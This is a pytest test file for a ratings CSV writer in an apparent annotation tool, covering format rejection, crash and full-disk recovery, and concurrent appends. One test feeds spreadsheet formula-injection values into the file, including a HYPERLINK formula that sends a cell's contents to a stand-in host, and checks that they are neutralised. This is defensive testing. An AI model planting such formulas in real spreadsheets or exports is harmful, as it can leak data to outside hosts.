"""Tests of the ratings file: stage ingest reads all rows, and files in other formats are rejected."""

import csv
import os
import resource
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kadr.errors import InputError
from kadr.ingest.formats.long import read_long_rows
from kadr.io.texts import normalise_whitespace
from kadr.serve import RatingsFile
from kadr.serve.annotation_scale import AnnotationScale
from kadr.serve.ratings_table import REQUIRED_COLUMNS, NewRating, read_rows

HEADER = "image,text,rater,rating,source,scale_min,scale_max\n"


def read_ratings(path: Path) -> pd.DataFrame:
    """Read a ratings file in the same way as stage ingest."""
    columns = [*REQUIRED_COLUMNS, "source"]
    return read_long_rows(path).rows.pipe(lambda rows: rows[[name for name in columns if name in rows]])


def test_ingest_reads_the_appended_rows(tmp_path: Path) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    file.append(NewRating("a.jpg", '  A "red", ball;\n on grass ', "Ann, B.", 4))
    file.append(NewRating("b.jpg", "Кот\tспит | дома", "боб", 1))
    assert read_ratings(file.path).values.tolist() == [
        ["a.jpg", 'A "red", ball; on grass', "Ann, B.", "4", "expert"],
        ["b.jpg", "Кот спит | дома", "боб", "1", "expert"],
    ]
    assert file.n_ratings == 2


PRINTABLE_TEXT = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1).filter(str.strip)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(PRINTABLE_TEXT, min_size=1, max_size=4), rater=PRINTABLE_TEXT.map(str.strip))
def test_any_text_and_name_survive_a_round_trip(tmp_path: Path, texts: list[str], rater: str) -> None:
    path = tmp_path / "ratings_long.csv"
    path.unlink(missing_ok=True)
    file = RatingsFile(path)
    for text in texts:
        file.append(NewRating("a.jpg", text, rater, 2))
    rows = read_ratings(path)
    assert [normalise_whitespace(text) for text in rows["text"]] == [normalise_whitespace(text) for text in texts]
    assert set(rows["rater"]) == {normalise_whitespace(rater)}
    assert all(RatingsFile(path).contains(rater, "a.jpg", text) for text in texts)


@pytest.mark.parametrize(
    ("content", "last_line"),
    [
        ("", "a.jpg,A dog,ann,3,expert,1,4"),
        (HEADER + "b.jpg,A cat,bob,1,expert,1,4\n", "a.jpg,A dog,ann,3,expert,1,4"),
        (
            HEADER + "b.jpg,A cat,bob,1,expert,1,4",
            "a.jpg,A dog,ann,3,expert,1,4",
        ),  # no line break at the end of the file
        ("\ufeffrating,rater,text,image\n1,bob,A cat,b.jpg\n", "3,ann,A dog,a.jpg"),
    ],
)
def test_a_row_follows_the_columns_of_the_existing_file(tmp_path: Path, content: str, last_line: str) -> None:
    path = tmp_path / "ratings_long.csv"
    path.write_text(content, encoding="utf-8")
    file = RatingsFile(path)
    assert file.contains("bob", "b.jpg", "A cat") == bool(content)
    file.append(NewRating("a.jpg", "A dog", "ann", 3))
    assert path.read_text(encoding="utf-8").splitlines()[-1] == last_line
    assert read_ratings(path)["rater"].tolist()[-1] == "ann"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("ratings_long.csv", b"image\ttext\trater\trating\n", "its first line is"),
        ("ratings_long.csv", b"photo,words,who\n", r"its first line is \(photo, words, who\)"),
        ("ratings_long.csv", "image,text,rater,rating\na.jpg,кот,ann,1\n".encode("cp1251"), "the file is not encoded"),
        ("ratings_long.parquet", b"", "ratings_long.parquet in the same folder contains the ratings"),
    ],
    ids=["tabs", "columns", "encoding", "parquet"],
)
def test_a_file_of_another_format_is_rejected(tmp_path: Path, name: str, content: bytes, message: str) -> None:
    (tmp_path / name).write_bytes(content)
    with pytest.raises(InputError, match=rf"ratings_long\.csv: ratings cannot be added because {message}"):
        RatingsFile(tmp_path / "ratings_long.csv")


def test_a_missing_folder_is_rejected(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"because the folder .* does not exist\. Create the folder.*--ratings"):
        RatingsFile(tmp_path / "none" / "ratings_long.csv")


def test_a_path_that_is_no_regular_file_is_rejected() -> None:
    with pytest.raises(InputError, match="it is not a regular file"):
        RatingsFile(Path("/dev/null"))


FORMULAS = ["=1+1", "+1", "-1", "@sum(a1)", "'=1", "''", "\uff1d1", '=HYPERLINK("http://x/"&A1,"x")']


def test_a_spreadsheet_does_not_compute_a_value(tmp_path: Path) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    for text in FORMULAS:
        file.append(NewRating(f"{text}.jpg", text, text, -1, AnnotationScale(-1, 1)))
    rows = read_ratings(file.path)
    assert rows["text"].tolist() == rows["rater"].tolist() == FORMULAS
    assert rows["image"].tolist() == [f"{text}.jpg" for text in FORMULAS]
    assert rows["rating"].tolist() == ["-1"] * len(FORMULAS)
    with file.path.open(newline="", encoding="utf-8") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row if cell != "-1"]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\uff1d"))]
    assert all(RatingsFile(file.path).contains(text, f"{text}.jpg", text) for text in FORMULAS)


@pytest.mark.parametrize("n_free", range(0, 60, 7))
@pytest.mark.parametrize("n_rows", [0, 2])
def test_a_full_disk_loses_no_acknowledged_rating(tmp_path: Path, project: Path, n_rows: int, n_free: int) -> None:
    """The limit on the file size stops a write in the middle of a row, like a full disk."""
    path = tmp_path / "ratings_long.csv"
    file = RatingsFile(path)
    for number in range(n_rows):
        file.append(NewRating("a.jpg", f"\u0434\u043e\u043c, {number}", "ann", 2))
    before = path.read_bytes() if n_rows else b""
    limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (len(before) + n_free, limit[1]))
    try:
        with pytest.raises(InputError, match=r"cannot be written .* free space"):
            file.append(NewRating("a.jpg", '\u043a\u043e\u0442, \u043a\u0440\u044b\u0448\u0430 "x"' * 9, "ann", 2))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limit)
    assert (path.read_bytes(), file.n_ratings) == (before, n_rows)
    file.append(NewRating("a.jpg", "after", "ann", 3))
    assert read_ratings(path)["text"].tolist() == [*(f"\u0434\u043e\u043c, {n}" for n in range(n_rows)), "after"]


def test_a_failed_sync_is_no_acknowledgement(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    file.append(NewRating("a.jpg", "A dog", "ann", 3))

    def fail(_file: int) -> None:
        raise OSError(5, "Input/output error")

    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", fail)
        with pytest.raises(InputError, match="Input/output error"):
            file.append(NewRating("b.jpg", "A dog", "ann", 3))
    assert (file.n_ratings, len(read_ratings(file.path))) == (1, 1)


ROW = 'a.jpg,"A ""\u0434\u043e\u043c"", red",ann,3,expert,1,4\n'.encode()


@pytest.mark.parametrize("n_bytes", range(1, len(ROW) - 1))
def test_half_a_row_of_a_crashed_process_is_removed(
    tmp_path: Path, n_bytes: int, caplog: pytest.LogCaptureFixture
) -> None:
    path = tmp_path / "ratings_long.csv"
    complete = HEADER.encode() + b"b.jpg,A cat,bob,1,expert,1,4\n"
    path.write_bytes(complete + ROW[:n_bytes])
    file = RatingsFile(path)
    assert file.n_ratings == 1
    file.append(NewRating("c.jpg", "A sea", "eve", 2))
    assert path.read_bytes() == complete + b"c.jpg,A sea,eve,2,expert,1,4\n"
    assert "removed half a row" in caplog.text


@pytest.mark.parametrize("n_bytes", [1, 9, len(HEADER) - 1, len(HEADER), len(HEADER) + 5])
def test_half_a_header_is_replaced(tmp_path: Path, n_bytes: int) -> None:
    path = tmp_path / "ratings_long.csv"
    path.write_bytes((HEADER.encode() + ROW)[:n_bytes])
    RatingsFile(path).append(NewRating("c.jpg", "A sea", "eve", 2))
    assert path.read_text() == HEADER + "c.jpg,A sea,eve,2,expert,1,4\n"


def test_two_servers_see_the_ratings_of_each_other(tmp_path: Path) -> None:
    first, second = (RatingsFile(tmp_path / "ratings_long.csv") for _ in range(2))
    first.append(NewRating("a.jpg", "A dog", "ann", 3))
    second.append(NewRating("b.jpg", "A dog", "ann", 4))
    second.append(NewRating("b.jpg", "A dog", "ann", 1))
    for file in (first, second):
        assert (file.n_ratings, file.n_pairs_by("ann"), file.contains("ann", "b.jpg", "A dog")) == (3, 2, True)
        assert [rating.rating for rating in file.ratings_by("ann")] == [3, 1]
    assert second.withdraw("ann", "b.jpg", " A  dog")
    assert not first.withdraw("ann", "b.jpg", "A dog")
    first.append(NewRating("c.jpg", "A dog", "bob", 2))
    assert read_ratings(second.path)["image"].tolist() == ["a.jpg", "c.jpg"]
    assert [file.n_ratings for file in (first, second)] == [2, 2]


def test_a_withdrawal_changes_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "ratings_long.csv"
    kept = ["\ufeffimage,text,rater,rating\r\n", 'b.jpg,"two\r\nlines",bob,1\r\n', "\r\n", "x,y\r\n"]
    path.write_text("".join([*kept[:2], "a.jpg,A dog,ann,3\r\n", *kept[2:], 'a.jpg,"A dog",ann,2']), newline="")
    path.chmod(0o640)
    file = RatingsFile(path)
    assert file.withdraw("ann", "a.jpg", "A dog")
    assert path.read_bytes().decode() == "".join(kept)
    assert (file.n_ratings, path.stat().st_mode & 0o777) == (2, 0o640)
    assert [name.name for name in tmp_path.iterdir()] == [path.name]


def replace_file(path: Path, content: bytes) -> None:
    """Replace a file as most editors do, by a rename."""
    other = path.with_suffix(".tmp")
    other.write_bytes(content)
    other.replace(path)


def write_in_place(path: Path, content: bytes) -> None:
    path.write_bytes(content)


@pytest.mark.parametrize("save", [replace_file, write_in_place])
def test_a_row_follows_the_format_that_a_spreadsheet_saved(tmp_path: Path, save: Callable[[Path, bytes], None]) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    file.append(NewRating("a.jpg", "A dog", "ann", 3))
    save(file.path, b"\xef\xbb\xbfrater,rating,image,text\r\nann,3,a.jpg,A dog\r\nbob,1,b.jpg,A cat\r\n")
    file.append(NewRating("c.jpg", "A sea", "eve", 2))
    assert file.path.read_bytes().endswith(b"bob,1,b.jpg,A cat\r\neve,2,c.jpg,A sea\r\n")
    assert (file.n_ratings, file.contains("bob", "b.jpg", "A cat")) == (3, True)
    assert read_ratings(file.path)["rater"].tolist() == ["ann", "bob", "eve"]


@pytest.mark.parametrize("save", [replace_file, write_in_place])
@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"image;text;rater;rating\r\na.jpg;A dog;ann;3\r\n", "its first line is"),
        (b"image,text,rating\na.jpg,A dog,3\n", "its first line is"),
        (b"image,text,rater,rating,rater\na.jpg,A dog,ann,3,ann\n", "contains rater more than once"),
        ("image,text,rater,rating\na.jpg,A dog,ann,3\n".encode("utf-16"), "its first line is"),
        (b"image,text,rater,rating\ra.jpg,A dog,ann,3\r", "carriage returns"),
        (b'image,text,rater,rating\na.jpg,"A dog,ann,3\nb.jpg,A cat,ann,1\n', "mark in line 2 is never closed"),
    ],
    ids=["delimiter", "column", "two columns", "encoding", "line breaks", "quotation mark"],
)
def test_a_rating_is_refused_if_ingest_could_not_read_it(
    tmp_path: Path, content: bytes, reason: str, save: Callable[[Path, bytes], None]
) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    file.append(NewRating("a.jpg", "A dog", "ann", 3))
    before = file.path.read_bytes()
    save(file.path, content)
    with pytest.raises(InputError, match=reason):
        file.append(NewRating("c.jpg", "A sea", "eve", 2))
    assert reason in (file.error or "")
    assert file.path.read_bytes() == content
    save(file.path, before)  # somebody repairs the file
    file.append(NewRating("c.jpg", "A sea", "eve", 2))
    assert (file.error, file.n_ratings) == (None, 2)


def test_a_deleted_file_is_created_again(tmp_path: Path) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    file.append(NewRating("a.jpg", "A dog", "ann", 3))
    file.path.unlink()
    assert file.n_ratings == 0
    file.append(NewRating("b.jpg", "A dog", "ann", 3))
    assert file.path.read_text() == HEADER + "b.jpg,A dog,ann,3,expert,1,4\n"


def test_only_appended_rows_are_parsed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = RatingsFile(tmp_path / "ratings_long.csv")
    file.append(NewRating("a.jpg", "A dog", "ann", 3))
    parsed: list[bytes] = []
    monkeypatch.setattr(
        "kadr.serve.ratings_file.read_rows",
        lambda layout, rows, **options: parsed.append(rows) or read_rows(layout, rows),
    )
    with file.path.open("ab") as other:
        other.write(b"b.jpg,A dog,bob,3,expert,1,4\n")
    assert (file.n_ratings, file.n_ratings) == (2, 2)
    assert parsed == [b"b.jpg,A dog,bob,3,expert,1,4\n"]


def test_no_row_is_lost_when_threads_and_processes_append(tmp_path: Path, project: Path) -> None:
    path = tmp_path / "ratings_long.csv"
    code = (
        "import sys; from pathlib import Path; from kadr.serve.ratings_file import NewRating, RatingsFile\n"
        "file = RatingsFile(Path(sys.argv[1]))\n"
        "for n in range(100): file.append(NewRating('a.jpg', f'text {n} ' + 'x' * 400, sys.argv[2], 1))"
    )
    processes = [
        subprocess.Popen([sys.executable, "-c", code, path, name], cwd=project, env={"PYTHONPATH": str(project)})
        for name in ("bob", "eve")
    ]
    file = RatingsFile(path)
    with ThreadPoolExecutor(8) as threads:
        list(threads.map(lambda n: file.append(NewRating("b.jpg", f"text {n}", "ann", 4)), range(100)))
    assert [process.wait(60) for process in processes] == [0, 0]
    rows = read_ratings(path)
    assert rows.groupby("rater")["text"].nunique().to_dict() == {"ann": 100, "bob": 100, "eve": 100}
    assert path.read_text().count(HEADER) == 1
